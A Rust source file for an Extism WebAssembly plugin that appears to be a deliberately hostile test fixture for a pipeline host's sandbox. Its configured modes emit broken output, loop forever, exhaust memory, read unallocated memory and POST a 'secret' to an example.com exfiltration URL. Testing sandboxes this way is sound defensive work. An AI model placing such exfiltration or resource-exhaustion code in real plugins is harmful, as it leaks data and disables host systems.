//! An Extism transform that does what its `mode` (from the transformer's configuration) says
//! when it applies: answer what is not JSON, call HTTP it was not granted, loop, grow its
//! linear or its Extism memory without end, read Extism memory it never allocated, panic,
//! return an Extism error, or (`sentinel`) read wild memory only for a batch holding 12345;
//! `log` logs a line through the host.
//! Its analysis and schema behave, so a pipeline can be fitted with it.

#![cfg(target_arch = "wasm32")]

use std::cell::RefCell;

use extism_pdk::{HttpRequest, Memory, extism};
use ferry_extism_pdk::wire::{self, Answer, Batch, Field};
use ferry_extism_pdk::{ManifestBuilder, PluginKind};

thread_local! {
    static MODE: RefCell<String> = const { RefCell::new(String::new()) };
}

fn answer<T: serde::Serialize>(value: T) -> i32 {
    let bytes = serde_json::to_vec(&Answer::<T>::Ok(value)).unwrap_or_default();
    if let Ok(m) = Memory::from_bytes(&bytes) {
        m.set_output();
    }
    0
}

fn call<T: serde::de::DeserializeOwned>() -> T {
    serde_json::from_slice(&extism_pdk::input_bytes()).expect("the host's call")
}

#[unsafe(no_mangle)]
pub extern "C" fn ferry_manifest() -> i32 {
    let m = ManifestBuilder::new("extism-hostile", "0.1.0")
        .timeout_ms(2000)
        .memory_mib(64)
        .build(PluginKind::Transform);
    // It reads its calls as JSON itself, so it offers JSON alone.
    let bytes = wire::encode_manifest(&m, &[wire::Payload::Json]).unwrap_or_default();
    if let Ok(memory) = Memory::from_bytes(&bytes) {
        memory.set_output();
    }
    0
}

#[unsafe(no_mangle)]
pub extern "C" fn analyzer_new() -> i32 {
    let _: wire::SchemaCall = call();
    answer(1u32)
}

#[unsafe(no_mangle)]
pub extern "C" fn analyzer_update() -> i32 {
    let _: wire::UpdateCall = call();
    answer(())
}

#[unsafe(no_mangle)]
pub extern "C" fn analyzer_finish() -> i32 {
    answer("e30=")
}

#[unsafe(no_mangle)]
pub extern "C" fn output_schema() -> i32 {
    let c: wire::SchemaCall = call();
    answer::<Vec<Field>>(c.input)
}

#[unsafe(no_mangle)]
pub extern "C" fn transformer_new() -> i32 {
    let c: wire::TransformerCall = call();
    let config: serde_json::Value = serde_json::from_str(&c.config).unwrap_or_default();
    let mode = config["mode"].as_str().unwrap_or("").to_string();
    MODE.with(|m| *m.borrow_mut() = mode);
    answer(1u32)
}

#[unsafe(no_mangle)]
pub extern "C" fn transformer_apply() -> i32 {
    let c: wire::ApplyCall = call();
    let mode = MODE.with(|m| m.borrow().clone());
    match mode.as_str() {
        "malformed" => {
            if let Ok(m) = Memory::from_bytes("{\"ok\": {\"num-rows\": 1, \"columns\": [") {
                m.set_output();
            }
            0
        }
        "wrong-shape" => answer(serde_json::json!({"rows": 1})),
        "http" => {
            let req = HttpRequest::new("http://example.com/exfiltrate").with_method("POST");
            let _ = extism_pdk::http::request::<String>(&req, Some("secret".to_string()));
            answer(c.data)
        }
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "hog" => {
            let mut kept: Vec<Vec<u8>> = Vec::new();
            loop {
                kept.push(vec![1u8; 16 << 20]);
                std::hint::black_box(&kept);
            }
        }
        "extism-hog" => loop {
            // SAFETY: an Extism host call; the host decides whether the block exists.
            let offset = unsafe { extism::alloc(16 << 20) };
            std::hint::black_box(offset);
        },
        "both" => {
            // 40 MiB of linear memory, then 32 MiB of Extism memory: each fits a 64 MiB cap
            // alone, together they do not.
            let kept = vec![1u8; 40 << 20];
            std::hint::black_box(&kept);
            // SAFETY: an Extism host call; the host decides whether the block exists.
            let offset = unsafe { extism::alloc(32 << 20) };
            std::hint::black_box(offset);
            answer(c.data)
        }
        "wild-load" => {
            // SAFETY: an Extism host call reading memory this plugin never allocated.
            let v = unsafe { extism::load_u64(1 << 40) };
            answer(v)
        }
        "panic" => panic!("hostile plugin panics on purpose"),
        "extism-error" => {
            if let Ok(m) = Memory::from_bytes("the hostile plugin's own Extism error") {
                // SAFETY: `m` is a live block holding the message.
                unsafe { extism::error_set(m.offset()) };
            }
            1
        }
        "sentinel" => {
            let sentinel = c.data.columns.iter().any(
                |col| matches!(&col.data, wire::ColumnData::Float64(v) if v.contains(&12345.0)),
            );
            if sentinel {
                // SAFETY: an Extism host call reading memory this plugin never allocated.
                let v = unsafe { extism::load_u64(1 << 40) };
                std::hint::black_box(v);
            }
            answer(c.data)
        }
        "log" => {
            ferry_extism_pdk::log::info("extism-hostile logs through the host");
            answer(c.data)
        }
        "fewer-rows" => answer(Batch {
            num_rows: 0,
            columns: Vec::new(),
        }),
        _ => answer(c.data),
    }
}
